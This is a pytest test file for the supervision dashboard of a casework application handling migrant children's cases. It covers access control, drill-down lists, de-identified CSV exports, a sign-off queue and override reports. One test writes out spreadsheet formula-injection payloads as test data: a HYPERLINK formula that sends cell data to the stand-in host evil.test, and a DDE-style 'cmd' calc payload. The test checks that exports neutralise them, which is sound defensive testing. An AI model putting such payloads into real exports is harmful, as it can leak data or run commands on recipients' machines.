"""The supervision pages through HTTP: access, links behind every number, filters, exports,
the sign-off queue and the overrides and refusals page."""

from __future__ import annotations

import csv
import html
import io
import re
import xml.etree.ElementTree as ET
from datetime import timedelta

import pytest
import sqlalchemy as sa

from casework.accounts.roles import Role
from casework.audit.models import AuditEvent
from casework.extensions import db
from casework.models import utcnow
from casework.supervision import dashboard, queue
from casework.supervision.dashboard import Filters
from casework.workflow import engine
from casework.workflow.models import CaseCheckpoint, State
from tests import supervision_scenario

CHILD_NAMES = ("Ana Lucía", "Ixcoy", "Tzoc")
PAGES = ["/supervision", "/supervision/cases", "/supervision/overrides",
         "/supervision/export/dashboard.csv", "/supervision/export/cases.csv"]


@pytest.fixture
def s(world):
    return supervision_scenario.build(world)


def _events(action: str) -> list[AuditEvent]:
    db.session.rollback()
    return list(db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == action)
                                   .order_by(AuditEvent.seq)))


# --- access --------------------------------------------------------------------------------


@pytest.mark.parametrize("role", [Role.CASEWORKER, Role.PARALEGAL, Role.ATTORNEY, Role.ADMIN])
def test_only_supervisors_open_the_dashboard(world, signin, role):
    browser = signin(world("MX", role))
    for url in PAGES:
        assert browser.get(url).status_code == 403, url
    # The queue is for those who sign something off: supervisors and attorneys.
    queue_status = 200 if role == Role.ATTORNEY else 403
    assert browser.get("/supervision/sign-offs").status_code == queue_status
    assert "Supervision" not in browser.get("/cases", follow_redirects=True).get_data(
        as_text=True).split("</nav>")[0]


def test_a_supervisor_opens_every_page_and_finds_it_in_the_menu(world, signin):
    browser = signin(world("MX", Role.SUPERVISOR))
    for url in [*PAGES, "/supervision/sign-offs"]:
        assert browser.get(url, buffered=True).status_code == 200, url  # exports stream
    menu = browser.get("/cases").get_data(as_text=True).split("</nav>")[0]
    assert 'href="/supervision"' in menu and 'href="/supervision/sign-offs"' in menu


def test_a_supervisor_sees_only_their_offices(s, signin, world):
    browser = signin(s.sup)
    page = browser.get("/supervision").get_data(as_text=True)
    assert s.mx.code in page and s.mx2.code in page and s.us.code not in page
    listed = browser.get("/supervision/cases?status=applies").get_data(as_text=True)
    assert s.cases["fresh"].number in listed and s.cases["abroad"].number not in listed
    # Another office's id in the filter is refused beside the field, not obeyed.
    refused = browser.get(f"/supervision?office={s.us.id}")
    assert refused.status_code == 400
    assert "Not a valid choice" in refused.get_data(as_text=True)
    assert s.cases["abroad"].number not in browser.get(
        f"/supervision/cases?office={s.us.id}").get_data(as_text=True)
    # The US supervisor sees the US case and none of Mexico's.
    us = signin(world("US", Role.SUPERVISOR)).get("/supervision/cases").get_data(as_text=True)
    assert s.cases["abroad"].number in us and s.cases["fresh"].number not in us


def test_a_supervisor_of_another_office_gets_nothing_of_these(s, signin, world, make):
    """Office B's supervisor: no number, case, name or office code of A on any page or
    export; A's office or staff in a filter refused; A's cases not found."""
    make.review(s.cases["stale"], s.sup)  # something to sign off, review and export
    db.session.commit()
    us_sup = world("US", Role.SUPERVISOR)
    browser = signin(us_sup)
    mexican = [c.number for k, c in s.cases.items() if k != "abroad"]
    secrets = [*mexican, s.mx.code, s.mx2.code, s.cw.name, s.cw2.name, s.pl.name]
    pages = ["/supervision", "/supervision?include_closed=y", "/supervision/sign-offs",
             "/supervision/overrides", "/supervision/export/dashboard.csv?with_staff=1",
             "/supervision/export/cases.csv?with_staff=1&include_closed=y",
             *(f"/supervision/cases?status={c}&include_closed=y" for c in dashboard.COLUMNS)]
    for url in pages:
        response = browser.get(url, buffered=True)
        assert response.status_code == 200, url
        text = response.get_data(as_text=True)
        assert not [x for x in secrets if x in text], url
    assert s.cases["abroad"].number in browser.get("/supervision/cases").get_data(as_text=True)
    # Naming A's office or a member of A's staff in a filter is refused, never obeyed.
    for query in (f"office={s.mx.id}", f"staff={s.cw.id}"):
        for path in ("/supervision", "/supervision/cases", "/supervision/export/dashboard.csv",
                     "/supervision/export/cases.csv"):
            response = browser.get(f"{path}?{query}", buffered=True)
            assert response.status_code == 400, (path, query)
            assert not [x for x in secrets if x in response.get_data(as_text=True)]
    assert browser.get(f"/supervision/overrides?office={s.mx.id}").status_code == 400
    # A's cases do not exist for B: the review form, a sign-off, the case page.
    case = s.cases["legal"]
    assert browser.get(f"/cases/{case.id}/reviews").status_code == 404
    assert browser.post(f"/cases/{case.id}/reviews", data={"note": "x"}).status_code == 404
    assert browser.post(f"/cases/{case.id}/checkpoints/legal.kyr/sign-off").status_code == 404
    db.session.rollback()
    assert engine.rows_for(case)["legal.kyr"].state == State.AWAITING_SIGN_OFF
    # ... and A's supervisor sees none of B's.
    own = signin(s.sup).get("/supervision/cases?include_closed=y").get_data(as_text=True)
    assert s.cases["abroad"].number not in own and s.us.code not in own


# --- every number is a link to its list --------------------------------------------------

_CELL = re.compile(r'data-column="(\w+)"><a href="([^"]+)">(\d+)<span')


def test_every_number_links_to_a_list_of_that_many_checkpoints(s, signin):
    browser = signin(s.sup)
    page = browser.get("/supervision").get_data(as_text=True)
    cells = _CELL.findall(page)
    assert len(cells) > 40
    columns = set()
    for column, href, number in cells:
        listed = browser.get(html.unescape(href))
        assert listed.status_code == 200, href
        text = listed.get_data(as_text=True)
        rows = text.count("<tr data-case=")
        assert rows == min(int(number), 50), (href, number, rows)
        assert f"{number} checkpoint" in text
        columns.add(column)
    assert {"applies", "overdue", "due_soon", "awaiting_sign_off", "met_on_time",
            "met_late", "pending"} <= columns


def test_the_overdue_list_is_most_urgent_first_with_days_overdue(s, signin):
    browser = signin(s.sup)
    text = browser.get("/supervision/cases?status=overdue").get_data(as_text=True)
    days = [int(d) for d in re.findall(r'<td class="text-end">(\d+)</td>', text)]
    assert days and days == sorted(days, reverse=True)
    assert s.cases["stale"].number in text and "Nobody assigned" in text


def test_checkpoints_awaiting_sign_off_are_signed_off_from_the_list(s, signin, make):
    make.screening(s.cases["fresh"], s.sup, "safety")  # the supervisor's own work
    db.session.commit()
    browser = signin(s.sup)
    url = "/supervision/cases?status=awaiting_sign_off"
    text = browser.get(url).get_data(as_text=True)
    rows = re.findall(r'<tr data-case="([^"]+)" data-checkpoint="([^"]+)" '
                      r'data-status="awaiting_sign_off">(.*?)</tr>', text, re.S)
    buttons = {(n, k) for n, k, row in rows if "/sign-off" in row}
    mine = set(queue.signable_keys(s.sup))
    assert (s.cases["legal"].number, "legal.kyr") in buttons
    assert (s.cases["legal"].number, "screen.protection") not in buttons  # an attorney's
    assert (s.cases["fresh"].number, "screen.safety") not in buttons  # their own work
    assert (s.cases["fresh"].number, "screen.safety") in {(n, k) for n, k, _r in rows}
    assert buttons == {(n, k) for n, k, _r in rows if k in mine} - {
        (s.cases["fresh"].number, "screen.safety")}
    # The same items as the queue offers (open cases: the list leaves closed ones out).
    assert buttons == {(i.case_number, i.sign_off_url.split("/checkpoints/")[1].split("/")[0])
                       for i in queue.sign_off_queue(s.sup)
                       if i.sign_off_url and i.case_number != s.cases["closed"].number}
    table = text.split('id="drill-down"')[1]
    form = re.search(r'<form method="post" action="([^"]+legal\.kyr[^"]*)">.*?'
                     r'name="next" value="([^"]+)"', table, re.S)
    assert html.unescape(form.group(2)) == url
    response = browser.post(html.unescape(form.group(1)), data={"next": url})
    assert response.status_code == 302 and response.location.endswith(url)
    after = browser.get(url).get_data(as_text=True)
    assert f'data-case="{s.cases["legal"].number}" data-checkpoint="legal.kyr"' not in after
    assert "<form" in after.split('id="drill-down"')[1]  # the others are still there


def test_filters_that_do_not_make_sense_are_refused_beside_the_field(s, signin):
    browser = signin(s.sup)
    response = browser.get("/supervision?due_from=2026-03-10&due_to=2026-03-01&stage=legal")
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    assert "The end of the range is before its start." in text
    assert 'value="2026-03-10"' in text  # what was typed stays
    assert re.search(r'<option selected value="legal">|<option value="legal" selected', text)
    assert browser.get("/supervision/cases?status=everything").status_code == 404
    assert browser.get("/supervision/cases?key=no.such").status_code == 404


def test_the_filters_narrow_the_numbers_and_travel_to_the_lists(s, signin):
    browser = signin(s.sup)
    text = browser.get(f"/supervision?office={s.mx2.id}&recommendation=R1").get_data(
        as_text=True)
    hrefs = [html.unescape(h) for _c, h, _n in _CELL.findall(text)]
    assert hrefs and all(f"office={s.mx2.id}" in h and "recommendation=R1" in h for h in hrefs)
    listed = browser.get(f"/supervision/cases?office={s.mx2.id}").get_data(as_text=True)
    assert s.cases["late"].number in listed and s.cases["fresh"].number not in listed


def test_reviews_overdue_show_on_the_dashboard(s, signin):
    browser = signin(s.sup)
    text = browser.get("/supervision").get_data(as_text=True)
    tile = text.split('data-tile="reviews_overdue"')[1].split("</div></div>")[0]
    assert re.search(r'class="kpi-number" href="[^"]*key=case.review[^"]*">1<', tile)
    listed = browser.get("/supervision/cases?key=case.review&status=overdue").get_data(
        as_text=True)
    assert s.cases["stale"].number in listed and s.cases["legal"].number not in listed


def test_views_are_audited_with_ids_only(s, signin):
    browser = signin(s.sup)
    browser.get(f"/supervision?staff={s.pl.id}")
    browser.get("/supervision/cases?status=overdue")
    view = _events("supervision.dashboard_view")[-1]
    assert view.actor_id == s.sup.id and view.details["filters"]["staff"] == str(s.pl.id)
    drill = _events("supervision.drill_down")[-1]
    assert drill.details["filters"]["status"] == "overdue" and drill.details["results"] > 0
    assert s.pl.name not in str(view.details)


def test_the_numbers_and_lists_never_load_or_decrypt_a_case(s, signin, make, monkeypatch):
    """SQL aggregates over the checkpoint rows: no case's data key is read or unwrapped and
    nothing is decrypted, on the dashboard, its lists, the queue and the exports. (The
    overrides page does decrypt: each override's written reason is what it is for.)"""
    from casework.crypto import envelope, fields
    from tests.querycount import count_queries

    mx_panel = make.panel(s.mx)
    _decided_bid(make, make.case(s.cw), s.cw, mx_panel, days_ago=3)  # a BID in the queue
    browser = signin(s.sup)

    def refuse(*_args, **_kwargs):
        raise AssertionError("a supervision page decrypted a record")

    monkeypatch.setattr(fields, "decrypt", refuse)
    monkeypatch.setattr(envelope, "unwrap_data_key", refuse)
    urls = ["/supervision", f"/supervision?office={s.mx.id}&recommendation=R1&stage=legal",
            *(f"/supervision/cases?status={c}" for c in dashboard.COLUMNS),
            "/supervision/sign-offs", "/supervision/export/dashboard.csv?with_staff=1",
            "/supervision/export/cases.csv?with_staff=1"]
    with count_queries() as queries:
        for url in urls:
            assert browser.get(url, buffered=True).status_code == 200, url
    assert queries.count and not any("wrapped_key" in q for q in queries.statements)


def test_a_supervisor_with_nothing_in_view_sees_plain_empty_states(world, signin, make):
    office = make.office("MX")
    sup = make.user(Role.SUPERVISOR, office)
    db.session.commit()
    browser = signin(sup)
    page = browser.get("/supervision").get_data(as_text=True)
    assert "No case in view has an assigned team." in page
    assert "No checkpoint fell due in the last 12 weeks." in page  # the trend's description
    assert re.search(r'data-tile="overdue".*?class="kpi-number[^"]*" href="[^"]+">0<', page,
                     re.S)
    assert "No checkpoint matches: nothing to do here." in browser.get(
        "/supervision/cases?status=overdue").get_data(as_text=True)
    assert "Nothing is waiting for your sign-off." in browser.get(
        "/supervision/sign-offs").get_data(as_text=True)
    oversight = browser.get("/supervision/overrides").get_data(as_text=True)
    assert "No override in this period." in oversight
    assert "No refused action in this period." in oversight
    rows = _csv(browser.get("/supervision/export/cases.csv", buffered=True))
    assert len(rows) == 1  # the header only


def test_a_page_past_the_end_of_a_list_shows_its_last_page(s, signin, monkeypatch):
    from casework.supervision import views

    monkeypatch.setattr(views, "PER_PAGE", 2)
    browser = signin(s.sup)
    total = dashboard.drill_down(s.scope, Filters(column="applies"), utcnow())[1]
    last = -(-total // 2)
    text = browser.get("/supervision/cases?status=applies&page=999").get_data(as_text=True)
    assert f"Page {last} of {last}" in text and text.count("<tr data-case=") >= 1


# --- charts ---------------------------------------------------------------------------------


def test_the_charts_are_svg_with_text_alternatives(s, signin):
    text = signin(s.sup).get("/supervision").get_data(as_text=True)
    svgs = re.findall(r"<svg.*?</svg>", text, re.S)
    assert len(svgs) == 3
    for svg in svgs:
        root = ET.fromstring(svg)  # noqa: S314 (our own markup) -- well-formed
        ns = "{http://www.w3.org/2000/svg}"
        assert root.get("role") == "img"
        labelled = root.get("aria-labelledby").split()
        assert [root.find(f"{ns}title").get("id"), root.find(f"{ns}desc").get("id")] == labelled
        assert root.find(f"{ns}desc").text
        described = root.get("aria-describedby")
        assert described and f'id="{described}"' in text  # the table with the numbers
    assert "<script" not in "".join(svgs) and "style=" not in "".join(svgs)
    # Readable in print: every number behind a chart is in a table on the page, none folded
    # away in a <details> that paper cannot open.
    assert "<details" not in text
    for table in ("rec-table", "office-table", "trend-table"):
        assert f'id="{table}"' in text


# --- exports --------------------------------------------------------------------------------


def _csv(response) -> list[list[str]]:
    """A CSV response's rows. Long exports stream: fetch them with `buffered=True`, so the
    test client reads them while the request runs, as a server does."""
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Cache-Control"] == "no-store"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_the_dashboard_export_is_de_identified_and_audited(s, signin):
    browser = signin(s.sup)
    rows = _csv(browser.get(f"/supervision/export/dashboard.csv?office={s.mx.id}"))
    body = "\n".join(",".join(r) for r in rows)
    assert rows[0][:4] == ["Table", "Id", "Name", "Cases"]
    assert not any(name in body for name in CHILD_NAMES)
    assert s.cw.name not in body and s.pl.name not in body  # no staff names by default
    total = next(r for r in rows if r[0] == "total")
    data = dashboard.build(s.scope, Filters(office=s.mx.id), utcnow())
    assert int(total[3]) == data.totals.cases and int(total[4]) == data.totals["applies"]
    assert sum(1 for r in rows if r[0] == "week") == 12
    event = _events("supervision.export")[-1]
    assert event.actor_id == s.sup.id
    assert event.details == {"kind": "dashboard", "rows": len(rows) - 1, "with_staff": False,
                             "filters": {"office": str(s.mx.id)}}
    with_staff = _csv(browser.get("/supervision/export/dashboard.csv?with_staff=1"))
    assert any(r[0] == "staff" and r[2] == s.pl.name for r in with_staff)
    assert _events("supervision.export")[-1].details["with_staff"] is True


def test_the_cases_export_lists_the_drill_down_and_audits_it(s, signin):
    browser = signin(s.sup)
    plain = _csv(browser.get("/supervision/export/cases.csv?status=overdue", buffered=True))
    assert plain[0] == ["Case number", "Office", "Checkpoint", "Checkpoint title",
                        "Recommendations", "Status", "Due (UTC)", "Met (UTC)", "Days overdue"]
    items, total = dashboard.drill_down(s.scope, Filters(column="overdue"), utcnow(),
                                        per_page=1000)
    assert len(plain) - 1 == total > 0
    assert [r[0] for r in plain[1:]] == [i.number for i in items]  # same order
    assert {r[5] for r in plain[1:]} == {"overdue"}
    assert not any(name in str(plain) for name in (*CHILD_NAMES, s.cw.name, s.cw2.name))
    named = _csv(browser.get("/supervision/export/cases.csv?status=applies&with_staff=1",
                                buffered=True))
    assert named[0][-1] == "Assigned staff"
    legal = {r[-1] for r in named[1:] if r[0] == s.cases["legal"].number}
    assert legal == {f"{s.cw.name}; {s.pl.name}"}
    events = _events("supervision.export")
    assert [e.details["kind"] for e in events[-2:]] == ["cases", "cases"]
    assert events[-2].details["rows"] == total and events[-1].details["with_staff"] is True
    assert events[-2].details["filters"] == {"status": "overdue"}


def test_cells_that_a_spreadsheet_would_run_are_neutralised(s, signin, make):
    formula = '=HYPERLINK("http://evil.test/?"&A1,"click")'
    evil = make.user(Role.CASEWORKER, s.mx, name=formula)
    make.case(evil)  # the only member of its case's team
    s.mx2.name = "+cmd|' /C calc'!A0"
    db.session.commit()
    browser = signin(s.sup)
    cases = _csv(browser.get("/supervision/export/cases.csv?with_staff=1", buffered=True))
    assert "'" + formula in {r[-1] for r in cases}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in cases for cell in row)
    board = _csv(browser.get("/supervision/export/dashboard.csv?with_staff=1"))
    assert "'+cmd|' /C calc'!A0" in {r[2] for r in board if r[0] == "office"}
    assert "'" + formula in {r[2] for r in board if r[0] == "staff"}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in board for cell in row)


# --- sign-off queue ----------------------------------------------------------------------


def test_the_old_queue_address_moves_to_supervision(world, signin):
    response = signin(world("MX", Role.SUPERVISOR)).get("/sign-offs")
    assert response.status_code == 301 and response.location.endswith("/supervision/sign-offs")


def test_the_queue_is_oldest_first_and_signs_off_from_the_list(s, signin, make):
    browser = signin(s.sup)
    text = browser.get("/supervision/sign-offs").get_data(as_text=True)
    listed = re.findall(r'<tr data-case="([^"]+)" data-source="workflow.checkpoints">', text)
    awaiting = db.session.execute(
        sa.select(CaseCheckpoint.met_at, CaseCheckpoint.case_id, CaseCheckpoint.key)
        .where(CaseCheckpoint.state == State.AWAITING_SIGN_OFF)).all()
    mine = {(case_id, key) for _m, case_id, key in awaiting
            if s.sup.role in engine.checkpoint(key).signed_off_by}
    numbers = {c.id: c.number for c in s.cases.values()}
    in_scope = sorted((m, numbers[c]) for m, c, k in awaiting if (c, k) in mine
                      and c != s.cases["abroad"].id)
    assert listed == [n for _m, n in in_scope] and len(listed) >= 3
    # Sign off the oldest from the list; back on the list, it is gone.
    item = queue.sign_off_queue(s.sup)[0]
    response = browser.post(item.sign_off_url, data={"next": "/supervision/sign-offs"})
    assert response.status_code == 302 and response.location.endswith("/supervision/sign-offs")
    after = re.findall(r'<tr data-case="([^"]+)"',
                       browser.get("/supervision/sign-offs").get_data(as_text=True))
    assert len(after) == len(listed) - 1
    db.session.rollback()
    assert [e.case_id for e in _events("checkpoint.sign_off")][-1] == item.case_id


def test_a_long_queue_is_paged_and_signing_off_keeps_the_page(s, signin, monkeypatch):
    from casework.supervision import views

    monkeypatch.setattr(views, "PER_PAGE", 3)
    browser = signin(s.sup)
    everything = [(i.case_number, i.source) for i in queue.sign_off_queue(s.sup)]
    assert len(everything) > 3
    pages, page = [], 1
    while True:
        text = browser.get(f"/supervision/sign-offs?page={page}").get_data(as_text=True)
        rows = re.findall(r'<tr data-case="([^"]+)" data-source="([^"]+)">', text)
        assert len(rows) <= 3 and f"Page {page}" in text
        pages += rows
        if "?page=" + str(page + 1) not in text:
            break
        page += 1
    assert pages == everything  # every item once, oldest first across the pages
    past = browser.get(f"/supervision/sign-offs?page={page + 1}").get_data(as_text=True)
    assert "past the end of the queue" in past
    # Signing off from page 2 comes back to page 2.
    text = browser.get("/supervision/sign-offs?page=2").get_data(as_text=True)
    table = text.split('id="sign-off-queue"')[1]
    action = html.unescape(re.search(r'<form method="post" action="([^"]+)"', table).group(1))
    response = browser.post(action, data={"next": "/supervision/sign-offs?page=2"})
    assert response.status_code == 302
    assert response.location.endswith("/supervision/sign-offs?page=2")
    assert 'name="next" value="/supervision/sign-offs?page=2"' in text


def test_no_one_sees_their_own_work_in_their_queue(s, signin, make):
    make.screening(s.cases["fresh"], s.sup, "safety")  # a supervisor may record it
    db.session.commit()
    numbers = re.findall(r'<tr data-case="([^"]+)"', signin(s.sup).get(
        "/supervision/sign-offs").get_data(as_text=True))
    assert s.cases["fresh"].number not in numbers
    other = make.user(Role.SUPERVISOR, s.mx)
    db.session.commit()
    assert s.cases["fresh"].number in signin(other).get("/supervision/sign-offs").get_data(
        as_text=True)


def test_an_attorney_sees_the_legal_sign_offs_only(s, signin, make):
    make.screening(s.cases["fresh"], s.pl, "protection")
    db.session.commit()
    att2 = make.user(Role.ATTORNEY, s.mx)
    db.session.commit()
    text = signin(att2).get("/supervision/sign-offs").get_data(as_text=True)
    assert "Fear of return and protection needs" in text
    assert "Know-your-rights orientation" not in text  # a supervisor's sign-off


def test_another_module_adds_its_items_to_the_queue(s, signin):
    from casework.supervision.queue import QUEUE_SOURCES, QueueItem

    case = s.cases["stale"]

    def bids(user, limit):
        return [QueueItem(source="test.bids", kind="BID approval", case_id=case.id,
                          case_number=case.number, office_code=s.mx.code,
                          title="Best interests determination", recommendations=("R5",),
                          since=utcnow() - timedelta(days=400), by=None,
                          open_url=f"/cases/{case.id}")]

    queue.queue_source("test.bids")(bids)
    try:
        text = signin(s.sup).get("/supervision/sign-offs").get_data(as_text=True)
    finally:
        QUEUE_SOURCES.pop("test.bids")
    rows = re.findall(r'<tr data-case="([^"]+)" data-source="([^"]+)">', text)
    assert rows[0] == (case.number, "test.bids")  # the oldest, first
    assert "Open to decide" in text and len(rows) > 1
    with pytest.raises(RuntimeError):
        queue.queue_source("workflow.checkpoints")(bids)


def _decided_bid(make, case, drafter, members, *, days_ago: float, votes=None):
    """A BID on `case` whose panel voted `days_ago` (all concur unless `votes` says)."""
    from casework.best_interests.models import BidVote

    make.assessment(case, drafter)
    bid = make.bid(case, drafter)
    for member, vote in zip(members, votes or ["concur"] * len(members), strict=True):
        make.vote(bid, member, vote)
    db.session.execute(sa.update(BidVote).where(BidVote.bid_id == bid.id)
                       .values(voted_at=utcnow() - timedelta(days=days_ago)))
    db.session.commit()
    return bid


def _queue_rows(browser) -> list[tuple[str, str]]:
    text = browser.get("/supervision/sign-offs").get_data(as_text=True)
    return re.findall(r'<tr data-case="([^"]+)" data-source="([^"]+)">', text)


def test_bids_awaiting_approval_join_the_queue_oldest_first(s, signin, make, world):
    from casework.best_interests.models import BestInterestsDetermination

    mx_panel, us_panel = make.panel(s.mx), make.panel(s.us)
    old = _decided_bid(make, make.case(s.cw), s.cw, mx_panel, days_ago=30)
    recent = _decided_bid(make, make.case(s.cw2, office=s.mx2), s.cw2, mx_panel, days_ago=0.01)
    # Not for this supervisor: another country's; a panel still voting; a panel that did
    # not concur (it is reopened, not approved); one drafted by this supervisor when a
    # caseworker (since promoted: nobody approves their own draft).
    us_cw = world("US", Role.CASEWORKER)
    abroad = _decided_bid(make, make.case(us_cw), us_cw, us_panel, days_ago=40)
    voting = _decided_bid(make, make.case(s.cw), s.cw, mx_panel[:2], days_ago=50)
    rejected = _decided_bid(make, make.case(s.cw), s.cw, mx_panel, days_ago=50,
                            votes=["concur", "dissent", "dissent"])
    own = _decided_bid(make, make.case(s.cw), s.cw, mx_panel, days_ago=60)
    own.drafted_by_id = s.sup.id
    db.session.commit()

    browser = signin(s.sup)
    rows = _queue_rows(browser)
    bids = [n for n, source in rows if source == "best_interests.bids"]
    assert bids == [old.case.number, recent.case.number]
    viewed = _events("supervision.queue_view")[-1]  # audited: counts and kinds, no case
    assert viewed.actor_id == s.sup.id and viewed.case_id is None
    assert viewed.details == {"page": 1, "items": len(rows),
                              "sources": ["best_interests.bids", "workflow.checkpoints"]}
    assert {abroad.case.number, voting.case.number, rejected.case.number,
            own.case.number}.isdisjoint(bids)
    assert abroad.case.number not in {n for n, _src in rows}
    # Mixed with the checkpoint sign-offs, all oldest first by the time they began to wait.
    waiting = {old.case.number: utcnow() - timedelta(days=30),
               recent.case.number: utcnow() - timedelta(days=0.01)}
    sources = [src for _n, src in rows]
    assert sources[0] == "best_interests.bids"  # the oldest of all
    assert sources.index("workflow.checkpoints") < rows.index(
        (recent.case.number, "best_interests.bids"))
    items = queue.sign_off_queue(s.sup)
    assert [(i.case_number, i.source) for i in items] == rows
    assert [i.since for i in items] == sorted(i.since for i in items)
    for item in items:
        if item.source == "best_interests.bids":
            assert abs(item.since - waiting[item.case_number]) < timedelta(minutes=1)
            assert item.sign_off_url is None  # approved on the BID's own page
    # The other supervisor of the office sees the one this one drafted.
    other = make.user(Role.SUPERVISOR, s.mx)
    db.session.commit()
    assert (own.case.number, "best_interests.bids") in _queue_rows(signin(other))
    # An attorney has a queue (legal sign-offs) but does not approve BIDs.
    assert all(src != "best_interests.bids" for _n, src in _queue_rows(signin(s.att)))

    # The item opens the BID page at its approval form; approving there empties it.
    text = browser.get("/supervision/sign-offs").get_data(as_text=True)
    row = text.split(f'<tr data-case="{old.case.number}" data-source="best_interests.bids">')[1]
    link = html.unescape(re.search(r'href="([^"]+#approve-h)">Open to decide', row).group(1))
    page = browser.get(link.split("#")[0]).get_data(as_text=True)
    assert 'id="approve-h"' in page
    form_token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page)
    response = browser.post(f"/cases/{old.case_id}/best-interests/determination/{old.id}/approve",
                            data={"csrf_token": form_token.group(1) if form_token else ""})
    assert response.status_code == 302
    db.session.rollback()
    assert db.session.get(BestInterestsDetermination, old.id).status == "approved"
    assert [n for n, src in _queue_rows(browser) if src == "best_interests.bids"] == [
        recent.case.number]


# --- overrides and refusals ------------------------------------------------------------------


def test_overrides_and_refusals_per_office(s, signin, world):
    cw = signin(s.cw)
    assert cw.post(f"/cases/{s.cases['fresh'].id}/actions/record-return",
                   data={"occurred_at": "2026-01-10T10:00"}).status_code == 409
    browser = signin(s.sup)
    text = browser.get("/supervision/overrides").get_data(as_text=True)
    offices = dict(re.findall(r'<tr data-office="([^"]+)">.*?<td class="text-end">(\d+)</td>',
                              text, re.S))
    assert offices == {s.mx.code: "1", s.mx2.code: "0"}
    assert "Know-your-rights given by the partner; record on file." in text  # the reason
    assert s.cases["closed"].number in text and s.cases["fresh"].number in text
    assert "Best interests determination" in text  # what the refused return lacked
    refusals = re.findall(r'<td class="text-end">\d+</td><td class="text-end">(\d+)</td>', text)
    assert refusals == ["1", "0"]
    assert _events("supervision.oversight_view")[-1].details == {
        "office": None, "overrides": 1, "refusals": 1}
    # Another country's supervisor sees none of it; a past window neither.
    us = signin(world("US", Role.SUPERVISOR)).get("/supervision/overrides").get_data(
        as_text=True)
    assert s.cases["closed"].number not in us and "Know-your-rights given" not in us
    old = browser.get("/supervision/overrides?due_from=2020-01-01&due_to=2020-12-31")
    assert "Know-your-rights given" not in old.get_data(as_text=True)


def test_long_override_and_refusal_lists_are_paged_each_on_its_own(s, signin, monkeypatch):
    from casework.supervision import views
    from casework.workflow.policy import Action

    for i, key in enumerate(("fresh", "screened", "legal")):
        engine.override(s.cases[key], Action.CLOSE_CASE, "legal.kyr",
                        f"Reason number {i}: given by the partner organisation.", actor=s.sup)
    db.session.commit()
    cw = signin(s.cw)
    for key in ("fresh", "screened", "stale"):
        assert cw.post(f"/cases/{s.cases[key].id}/actions/record-return",
                       data={"occurred_at": "2026-01-10T10:00"}).status_code == 409
    monkeypatch.setattr(views, "PER_PAGE", 2)
    browser = signin(s.sup)
    url, reasons, pages = f"/supervision/overrides?office={s.mx.id}", [], 0
    while url:
        text = browser.get(url).get_data(as_text=True)
        section = text.split('id="overrides-h"')[1].split("</section>")[0]
        reasons += re.findall(r'<td class="text-pre-wrap">([^<]+)</td>', section)
        assert f"Page {pages + 1} of 2" in section
        assert f"office={s.mx.id}" in section or pages == 1
        nxt = re.search(r'<a class="page-link" href="([^"#]+)">Next', section)
        url = html.unescape(nxt.group(1)) if nxt else None
        pages += 1
    assert pages == 2 and len(reasons) == len(set(reasons)) == 4  # three and the closed one
    assert reasons[0].startswith("Reason number 2")  # newest first
    # The refusals page on its own, keeping the overrides' page.
    text = browser.get("/supervision/overrides?overrides_page=2&refusals_page=2").get_data(
        as_text=True)
    refused = text.split('id="refusals-h"')[1].split("</section>")[0]
    assert "Page 2 of 2" in refused and refused.count("<tr><td") == 1
    assert "overrides_page=2" in html.unescape(refused)
    # A page past the end shows the last.
    assert "Page 2 of 2" in browser.get("/supervision/overrides?overrides_page=99").get_data(
        as_text=True).split('id="overrides-h"')[1]



def test_the_export_headers_are_in_the_supervisors_language(s, signin):
    browser = signin(s.sup)
    browser.post("/language", data={"language": "es"})
    plain = _csv(browser.get("/supervision/export/cases.csv?status=overdue", buffered=True))
    assert plain[0][:3] == ["Número de expediente", "Oficina", "Punto de control"]
    assert {r[5] for r in plain[1:]} == {"overdue"}  # the codes stay codes
